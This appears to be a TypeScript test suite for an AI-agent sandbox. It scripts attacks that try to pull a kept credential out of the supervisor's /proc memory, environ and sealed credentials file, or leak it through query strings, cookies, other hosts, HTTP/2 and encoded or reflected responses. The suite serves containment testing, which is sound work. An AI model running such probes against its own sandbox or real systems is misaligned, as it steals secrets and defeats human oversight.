/** E: secrets that the agent uses without having them. [req: escape:network] */
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { type Attack, describeAttacks } from './attack.ts';
import { allowed, denied, farOf, type FarOptions, opens, python, settings } from './far.ts';
import type { Run, World } from './world.ts';

const program = fileURLToPath(new URL('../../cli/src/main.js', import.meta.url));
/** Allowed, and no host of the secret. */
const other = 'other.allowed.test';

/** The secret is the world's canary; the session finds its placeholder in KEY. */
async function keep(world: World): Promise<void> {
  const add = `printf %s "$1" | "$2" "$3" credential add escape --host ${allowed} --env KEY`;
  const added = await world.runBare(['/bin/sh', '-c', add, 'sh', world.canary, process.execPath, program]);
  if (added.status !== 0) throw new Error(`the secret cannot be kept: ${added.output}`);
}

/** As it is, or so that anybody can turn it back. */
function shown({ canary }: World, run: Run): boolean {
  const bytes = Buffer.from(canary);
  const base64 = [0, 1, 2].map((before) =>
    Buffer.concat([Buffer.alloc(before), bytes])
      .toString('base64')
      .slice(4, -4),
  );
  const forms = [canary, bytes.toString('hex'), ...base64];
  return forms.some((form) => run.output.toLowerCase().includes(form.toLowerCase()));
}

const secretArrived = (world: World): boolean =>
  farOf(world).outside.arrived.some(
    ({ headers, url }) => url === '/fine' && headers.authorization === `Bearer ${world.canary}`,
  );

/** Everywhere but in its header, at its host. */
function strayed(world: World): boolean {
  return farOf(world).outside.arrived.some(({ headers, host, ...rest }) => {
    const { authorization, ...others } = headers;
    const fits = host.startsWith(`${allowed}:`) && rest.url === '/fine' ? '' : authorization;
    return JSON.stringify([fits, others, rest]).includes(world.canary);
  });
}

/** Gives the secret back, in the way that the path asks for. */
const reflects: FarOptions['handle'] = (request, response) => {
  const secret = String(request.headers.authorization ?? '').replace(/^Bearer /, '');
  const text = `token=${secret};`;
  switch (request.url) {
    case '/header':
      response.setHeader('x-token', text);
      response.setHeader('set-cookie', `t=${secret}`);
      response.end();
      return;
    case '/status':
      response.writeHead(500, secret.slice(0, 60)).end(text);
      return;
    case '/redirect':
      response.writeHead(302, { location: `https://${denied}/?${secret}` }).end();
      return;
    case '/pieces':
      for (const one of text) response.write(one);
      response.end();
      return;
    case '/slowly': {
      response.write(text.slice(0, 12));
      setTimeout(() => response.end(text.slice(12)), 200);
      return;
    }
    case '/events':
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.end(`data: ${text}\n\n`);
      return;
    case '/base64':
      response.end(Buffer.from(text).toString('base64'));
      return;
    case '/hex':
      response.end(Buffer.from(text).toString('hex'));
      return;
    case '/gzip':
      response.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(text));
      return;
    case '/trailer':
      response.writeHead(200, { trailer: 'x-token' });
      response.write('x');
      response.addTrailers({ 'x-token': text });
      response.end();
      return;
    default:
      response.end(text);
  }
};

/** Python that has `at`, and `asked(…)` for a request over TLS. */
const asking = (world: World): string => {
  const { tls, http } = farOf(world).outside.ports;
  return `
import base64, gzip
key = os.environ["KEY"]
at = "${allowed}:${tls}"
def asked(path, headers="", body="", host="${allowed}", method="GET"):
    body = body if isinstance(body, bytes) else body.encode()
    length = f"Content-Length: {len(body)}\\r\\n" if body else ""
    head = f"{method} {path} HTTP/1.1\\r\\nHost: {host}:${tls}\\r\\nConnection: close\\r\\n{length}{headers}\\r\\n"
    return say_secured(host, ${tls}, host, head.encode() + body)
def plainly(path, headers):
    return say("${allowed}", ${http}, f"GET {path} HTTP/1.1\\r\\nHost: ${allowed}:${http}\\r\\nConnection: close\\r\\n{headers}\\r\\n")
auth = f"Authorization: Bearer {key}\\r\\n"
attempt("fine", asked, "/fine", auth)
`;
};

const kept = {
  policy: 'hosts',
  outside: opens(),
  data: settings({}, { hosts: [allowed, other] }),
  prepare: keep,
  control: { within: secretArrived },
} satisfies Partial<Attack>;

const attacks: readonly Attack[] = [
  {
    ...kept,
    id: 'E1',
    title: 'environ, memory and files of those who have the secret',
    command: (world) =>
      python(`${asking(world)}
def text(path):
    try:
        with open(path, "rb") as f: return f.read()
    except OSError: return b""
# Those of this session only: its first process or the gate, chaperone above it, and what that has started.
chain, pid = [], os.getppid()
while pid > 0 and len(chain) < 2:
    chain.append(pid)
    found = re.search(rb"^PPid:\\s*(\\d+)", text(f"/proc/{pid}/status"), re.M)
    pid = int(found[1]) if found else 0
children = b" ".join(text(f"/proc/{one}/task/{one}/children") for one in chain).split()
def memory(process):
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
        for line in maps:
            found = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
            if not found: continue
            start, end = int(found[1], 16), int(found[2], 16)
            memory.seek(start)
            yield from re.findall(b"CANARY-[0-9a-f]{24}", memory.read(min(end - start, 1 << 24)))
for process in sorted({*chain, *map(int, children)} - {os.getpid()}):
    for name in ("environ", "cmdline"):
        tell(process, name, set(re.findall(b"CANARY-[0-9a-f]{24}", text(f"/proc/{process}/{name}"))))
    attempt(("memory", process), lambda: set(memory(process)))
sealed = "${path.join(world.home, '.local/state/chaperone/credentials.sealed')}"
attempt(sealed, lambda: open(sealed, "rb").read())
tell({k: v for k, v in os.environ.items() if "CANARY" in v})`),
    won: shown,
    record: ({ home, cell }) =>
      cell.isolation === 'namespace'
        ? []
        : [
            { kind: 'refusal', call: 'proc_of_supervisor' },
            {
              kind: 'deny',
              action: 'read_file',
              path: path.join(home, '.local/state/chaperone/credentials.sealed'),
            },
          ],
  },
  {
    ...kept,
    id: 'E2',
    title: 'placeholder elsewhere: body, query, path, other headers, other hosts, without TLS',
    command: (world) =>
      python(`${asking(world)}
for path, headers, body in ((f"/?t={key}", "", ""), (f"/{key}", "", ""), ("/", f"X-Api-Key: {key}\\r\\n", ""), ("/", f"Cookie: t={key}\\r\\n", ""), ("/", f"User-Agent: {key}\\r\\n", ""), ("/", f"Proxy-Authorization: Bearer {key}\\r\\n", ""), ("/", "", key), ("/", "Content-Type: application/json\\r\\n", '{"t": "%s"}' % key), ("/", f"Authorization: Digest username={key}\\r\\n", ""), ("/", f"Authorization: x{key}\\r\\n", "")):
    attempt((path, headers, body), asked, path, headers, body, method="POST")
attempt("another host", asked, "/", auth, host="${other}")
attempt("without TLS", plainly, "/", auth)
with secured("${allowed}", ${farOf(world).outside.ports.tls}, "${allowed}", ["h2"]) as s:
    s.settimeout(1)
    s.sendall(PREFACE + request2(1, (":method", "GET"), (":scheme", "https"), (":path", "/" + key), (":authority", at), ("x-key", key)))
    attempt("h2", all_of, s)`),
    won: strayed,
    record: { none: 'a placeholder is text like any other, and worth nothing to whoever gets it' },
  },
  {
    ...kept,
    id: 'E2',
    title: 'the secret itself, by an agent that has it from elsewhere',
    policy: 'bodies',
    data: settings({}, { hosts: [allowed, other] }),
    command: (world) =>
      python(`${asking(world)}
own = "${world.canary}"
for host in ("${allowed}", "${other}"):
    for path, headers, body in (("/", f"Authorization: Bearer {own}\\r\\n", ""), (f"/?t={own}", "", ""), (f"/{own}", "", ""), ("/", f"Cookie: t={own}\\r\\n", ""), ("/", "", own), ("/", "Content-Type: application/json\\r\\n", '{"t": "%s"}' % own), ("/", "Authorization: Basic " + base64.b64encode(("x:" + own).encode()).decode() + "\\r\\n", "")):
        attempt((path, headers, body), asked, path, headers, body, host, "POST")`),
    won: strayed,
    record: () =>
      [allowed, other].map((host) => ({
        kind: 'refusal',
        call: 'credential_provenance',
        destination: { host },
      })),
  },
  {
    ...kept,
    id: 'E3',
    title: 'secret in the answer: body, headers, cookie, redirect, events, trailer',
    outside: opens({ handle: reflects }),
    command: (world) =>
      python(`${asking(world)}
for path in ("/body", "/header", "/status", "/redirect", "/events", "/trailer"):
    attempt(path, asked, path, auth)
with secured("${allowed}", ${farOf(world).outside.ports.tls}, "${allowed}", ["h2"]) as s:
    s.settimeout(1)
    s.sendall(PREFACE + request2(1, (":method", "GET"), (":scheme", "https"), (":path", "/header"), (":authority", at), ("authorization", "Bearer " + key)) + request2(3, (":method", "GET"), (":scheme", "https"), (":path", "/pieces"), (":authority", at), ("authorization", "Bearer " + key)))
    attempt("h2", all_of, s)`),
    won: shown,
    record: { none: 'the answer is changed, and nothing is refused' },
  },
  {
    ...kept,
    id: 'E4',
    title: 'secret and placeholder in pieces, in base64, in hexadecimal, compressed',
    outside: opens({ handle: reflects }),
    command: (world) =>
      python(`${asking(world)}
def whole(path):
    heard = asked(path, auth + "Accept-Encoding: gzip\\r\\nRange: bytes=0-400\\r\\n")
    body = heard.split(b"\\r\\n\\r\\n", 1)[-1]
    try: return gzip.decompress(body)
    except Exception: return heard
for path in ("/pieces", "/slowly", "/base64", "/hex", "/gzip"):
    attempt(path, whole, path)
def dripped():
    with secured("${allowed}", ${farOf(world).outside.ports.tls}, "${allowed}") as s:
        for one in f"GET /body HTTP/1.1\\r\\nHost: {at}\\r\\nConnection: close\\r\\n{auth}\\r\\n":
            s.sendall(one.encode())
        return all_of(s)
attempt("dripped", dripped)
for coded in (base64.b64encode(key.encode()), gzip.compress(key.encode()), key.encode().hex().encode()):
    attempt("coded", asked, "/", "", coded, method="POST")
attempt("chunks", asked, "/", "Transfer-Encoding: chunked\\r\\n\\r\\n" + "".join(f"1\\r\\n{one}\\r\\n" for one in key) + "0\\r\\n", method="POST")`),
    won: (world, run) =>
      shown(world, run) ||
      farOf(world).outside.arrived.some(({ body, url }) => `${url} ${body}`.includes(world.canary)),
    record: { none: 'the answer is changed, and nothing is refused' },
  },
];

describeAttacks('credentials', [], attacks);
